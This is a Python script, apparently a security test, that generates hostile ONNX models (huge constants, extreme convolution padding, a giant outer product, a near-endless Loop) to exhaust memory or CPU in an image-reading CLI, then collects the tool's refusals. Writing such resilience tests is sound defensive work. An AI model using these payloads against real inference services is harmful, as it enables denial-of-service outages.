"""A network of a few kilobytes that computes with gigabytes, or for ever.

    python attacks/onnx_shapes.py

It hopes that its absurd shapes are allocated when it is loaded or when it reads: a constant of
8 GB, padding of 40,000 pixels, an outer product, a batch that grows, a loop without end.
The victim reads a picture with a stranger's network: `inkdigits read --model evil.onnx`.
"""

from pathlib import Path
from typing import Any

import numpy as np
from onnx import TensorProto, helper, numpy_helper
from PIL import Image
from victim import refusal, run, several

INPUT = helper.make_tensor_value_info("images", TensorProto.FLOAT, ["N", 1, 28, 28])
OUTPUT = helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", 10])
NUMBERS: dict[str, np.ndarray[Any, np.dtype[Any]]] = {
    "weights": np.zeros((784, 10), np.float32),
    "kernel": np.ones((10, 1, 28, 28), np.float32),
    "shape": np.array([2**31], np.int64),
    "part": np.array([2**27], np.int64),
    "column": np.ones((2**16, 1), np.float32),
    "row": np.ones((1, 2**15), np.float32),
    "endless": np.array(2**62, np.int64),
    "true": np.array(True),
}
node = helper.make_node


def endless_loop() -> list[Any]:
    same = [
        helper.make_tensor_value_info(name, kind, shape)
        for name, kind, shape in (
            ("i", TensorProto.INT64, []), ("go", TensorProto.BOOL, []),
            ("x", TensorProto.FLOAT, None),
        )
    ]  # fmt: skip
    after = [
        helper.make_tensor_value_info("on", TensorProto.BOOL, []),
        helper.make_tensor_value_info("y", TensorProto.FLOAT, None),
    ]
    body = helper.make_graph(
        [node("Identity", ["go"], ["on"]), node("Relu", ["x"], ["y"])], "body", same, after
    )
    return [node("Loop", ["endless", "true", "dense"], ["logits"], body=body)]


HOSTILE: dict[str, list[Any]] = {
    "constant": [
        node("ConstantOfShape", ["shape"], ["huge"]),
        node("ReduceMax", ["huge"], ["r"], keepdims=0),
        node("Add", ["dense", "r"], ["logits"]),
    ],
    "constants": [
        *(node("ConstantOfShape", ["part"], [f"huge{number}"]) for number in range(20)),
        node("Sum", [f"huge{number}" for number in range(20)], ["huge"]),
        node("ReduceMax", ["huge"], ["r"], keepdims=0),
        node("Add", ["dense", "r"], ["logits"]),
    ],
    "padding": [
        node("Conv", ["images", "kernel"], ["huge"], pads=[20_000] * 4),
        node("GlobalMaxPool", ["huge"], ["r"]),
        node("Flatten", ["r"], ["logits"]),
    ],
    "product": [
        node("MatMul", ["column", "row"], ["huge"]),
        node("ReduceMax", ["huge"], ["r"], keepdims=0),
        node("Add", ["dense", "r"], ["logits"]),
    ],
    "loop": endless_loop(),
    "other_logits": [node("ReduceMax", ["dense"], ["logits"], keepdims=0)],
}


def attack(folder: Path) -> str:
    picture = folder / "picture.png"
    Image.new("L", (60, 60), 255).save(picture)
    dense = [node("Flatten", ["images"], ["f"]), node("MatMul", ["f", "weights"], ["dense"])]
    numbers = [numpy_helper.from_array(values, name) for name, values in NUMBERS.items()]
    paths = []
    for name, nodes in HOSTILE.items():
        graph = helper.make_graph([*dense, *nodes], "evil", [INPUT], [OUTPUT], numbers)
        opset = [helper.make_opsetid("", 17)]
        model = helper.make_model(graph, opset_imports=opset, ir_version=8)
        paths.append(folder / f"{name}.onnx")
        paths[-1].write_bytes(model.SerializeToString())
    outcomes = several(*(("read", "--model", path, picture) for path in paths))
    sentences = [refusal(*pair) for pair in zip(outcomes, paths, strict=True)]
    return f"{len(sentences)} of them, such as by '{sentences[0]}'"


if __name__ == "__main__":
    run(attack)
